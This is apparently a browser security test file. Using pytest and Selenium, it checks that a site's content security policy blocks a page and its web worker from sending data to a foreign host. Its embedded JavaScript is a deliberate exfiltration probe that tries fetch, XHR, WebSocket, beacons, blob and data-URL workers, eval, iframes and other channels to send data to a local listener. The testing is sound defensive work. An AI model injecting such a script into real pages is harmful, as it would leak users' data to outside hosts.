"""Nothing can be sent elsewhere, by a page or by its worker, whatever the host sends: not even by a script that tries.

Each test adds such a script to one of ours. It tries every way that a script has, and tells its own host when it is
done; another host on this machine listens.
"""

import json
import time
from collections.abc import Iterator

import pytest
from selenium.webdriver.remote.webdriver import WebDriver

from support.browser.host import Fault, Host, stranger
from support.browser.seeing import see, waiting
from support.browser.taking import SelfCheck
from support.delivered import file_with
from support.published import SELF_CHECKS

# Each way may be missing, be refused at once, or end in silence.
TRIES = """
;(async () => {
  const there = %(there)s, place = %(place)s, own = %(own)s;
  const at = (way) => `${there}${place}-${way}`;
  const opened = (thing) =>
    new Promise((over) => Object.assign(thing, { onopen: over, onerror: over, onmessage: over, onload: over }));
  const started = (script, how) => opened(new Worker(script, how));
  const blob = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
  const image = () => { new Image().src = at("image"); };
  const form = () => {
    const form = document.createElement("form");
    Object.assign(form, { action: at("form"), method: "post", target: "nowhere" });
    document.body.append(form);
    form.submit();
  };
  const link = (attributes) => document.head.append(Object.assign(document.createElement("link"), attributes));
  const ways = {
    fetch: () => fetch(at("fetch"), { mode: "no-cors", method: "POST", body: "answers" }),
    later: () => fetch(at("later"), { mode: "no-cors", keepalive: true }),
    xhr: () => {
      const asked = new XMLHttpRequest();
      asked.open("GET", at("xhr"));
      asked.send();
      return opened(asked);
    },
    socket: () => opened(new WebSocket(at("socket").replace("http", "ws"))),
    events: () => opened(new EventSource(at("events"))),
    transport: () => {
      const { ready, closed } = new WebTransport(at("transport").replace("http:", "https:"));
      closed.catch(() => {});
      return ready;
    },
    beacon: () => navigator.sendBeacon(at("beacon"), "answers"),
    module: () => import(at("module")),
    script: () => importScripts(at("script")),
    worker: () => started(at("worker")),
    under: () => started(blob(`fetch("${at("under")}", { mode: "no-cors" }).then(() => postMessage(1))`)),
    dataWorker: () => started(`data:text/javascript,fetch("${at("data-worker")}",{mode:"no-cors"})`),
    ownFile: () => started(`${own}?from=${place}`, { type: "module" }),
    sharedFile: () => opened(new SharedWorker(`${own}?from=${place}-shared`, { type: "module" })),
    service: () => navigator.serviceWorker.register(own),
    cache: async () => (await caches.open("x")).add(new Request(at("cache"), { mode: "no-cors" })),
    image, form,
    style: () => link({ rel: "stylesheet", href: at("style") }),
    prefetch: () => link({ rel: "prefetch", href: at("prefetch") }),
    frame: () => document.body.append(Object.assign(document.createElement("iframe"), { src: at("frame") })),
    code: () => (0, eval)(`fetch("${at("code")}", { mode: "no-cors" })`),
  };
  const enough = () => new Promise((resolve) => setTimeout(resolve, 1000));
  await Promise.all(Object.values(ways).map((way) => Promise.race([(async () => way())().catch(() => {}), enough()])));
  await fetch(`${new URL("/", own)}tried-${place}`).catch(() => {});
})();
"""


@pytest.fixture
def elsewhere() -> Iterator[list[str]]:
    """A host that belongs to somebody else: its address, and then all that it hears."""
    with stranger() as heard:
        yield heard


def trying(there: str, place: str) -> Fault:
    """Return what adds a script that tries to send to `there`."""
    filled = {"there": json.dumps(there), "place": json.dumps(place), "own": "import.meta.url"}
    return lambda content: content + (TRIES % filled).encode()


def alone(content: bytes) -> bytes:
    """A browser that shares no workers."""
    return content.replace(b'typeof SharedWorker === "undefined"', b"true")


VISITS: dict[str, tuple[bool, dict[str, Fault]]] = {
    "a host that sends no headers": (True, {}),
    "a host that sends no headers, a worker of the page's own": (True, {file_with("python/hiring.js"): alone}),
    "a host that sends ours": (False, {}),
}


@pytest.mark.parametrize(("is_plain", "browsers_way"), VISITS.values(), ids=VISITS)
def test_neither_page_nor_worker_can_send_anything_elsewhere(
    browser: WebDriver, at: Host, elsewhere: list[str], is_plain: bool, browsers_way: dict[str, Fault]
) -> None:
    at.is_plain = is_plain
    at.faults |= browsers_way
    at.faults |= {"/score-worker.js": trying(elsewhere[0], "worker"), "/self-check.js": trying(elsewhere[0], "page")}
    check = SelfCheck(browser=browser, at=at, name=SELF_CHECKS[0].stem).open()
    check.one("label.option").click()
    tried = {"/tried-page", "/tried-worker"}
    waiting(browser).until(lambda _: tried <= set(at.paths()), "page or worker never tried")
    time.sleep(0.5)
    assert elsewhere[1:] == []


def test_what_is_listened_for_is_heard(browser: WebDriver, elsewhere: list[str]) -> None:
    """Where nothing forbids it, that script does send."""
    browser.get(elsewhere[0])
    browser.execute_script(TRIES % {"there": json.dumps(elsewhere[0]), "place": '"free"', "own": "location.href"})
    waiting(browser).until(lambda _: {"/free-fetch", "/free-module", "/free-xhr"} <= set(elsewhere))


def test_the_search_runs_in_the_page_where_its_policy_holds(browser: WebDriver, at: Host) -> None:
    browser.get(f"{at.url}search/#q=listening")
    assert "mention" in see(browser, "site-search [role=status]").text
    assert see(browser, "site-search li.entry")
    assert [path for path in at.paths() if "worker" in path] == []
